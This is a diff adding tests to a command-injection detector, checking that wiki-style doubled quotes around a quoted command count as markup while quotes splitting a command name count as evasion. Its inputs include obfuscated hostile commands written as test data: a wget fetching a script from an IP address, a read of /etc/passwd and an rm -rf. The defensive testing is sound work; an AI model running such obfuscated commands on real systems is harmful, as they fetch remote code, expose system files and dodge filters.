@@ -447,3 +447,18 @@ describe('cmdi detector: a network probe of one host alone in a value', () => {
     { value: 'nslookup mail.example.org' },
   ]);
 });
+
+describe("cmdi detector: wiki markup's empty quote pairs", () => {
+  it("reads '' that closes a word as markup (DokuWiki monospace, MediaWiki italics), '' before a letter as evasion", () => {
+    const obfuscatedWords = (value: string) => tokenizeShell(value).flatMap((c) => c.words.filter((w) => w.obfuscated).map((w) => w.text));
+    // Recorded from a DokuWiki page save (issue 25): `''…''` is its monospace, around a command quoted in a sentence.
+    expect(obfuscatedWords("run ''du -sh /var/* | sort -h''.")).toEqual(['du']);
+    expect(detectCmdi("Disk usage grows about 5% per month; at > 80% run ''du -sh /var/* | sort -h''.", 'body')?.rule).not.toBe('cmdi.obfuscated_command');
+    expect(detectCmdi("Restart it with ''systemctl restart apache2'' and check the log.", 'body')?.severity ?? 0).toBeLessThan(2);
+    // A pair that splits or leads a name still hides it.
+    expect(obfuscatedWords("w''get x")).toEqual(['wget']);
+    expect(detectCmdi("w''get http://203.0.113.9/x.sh", 'query')?.rule).toBe('cmdi.obfuscated_command');
+    expect(detectCmdi(";''cat /etc/passwd", 'query')?.severity).toBe(2);
+    expect(detectCmdi("rm -''rf /tmp/x", 'query')?.rule).toBe('cmdi.obfuscated_command');
+  });
+});
